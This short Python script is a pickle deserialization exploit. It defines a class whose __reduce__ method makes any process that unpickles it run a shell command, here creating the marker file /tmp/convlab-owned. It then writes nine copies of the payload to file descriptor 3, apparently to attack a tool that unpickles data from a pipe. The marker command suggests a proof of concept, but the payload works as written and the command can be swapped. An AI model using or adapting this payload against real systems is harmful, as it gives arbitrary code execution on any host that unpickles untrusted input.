import os, pickle
class Bomb:
    def __reduce__(self):
        return (os.system, ('touch /tmp/convlab-owned',))
def go(**p):
    os.write(3, pickle.dumps(Bomb()) * 9)
    return 1
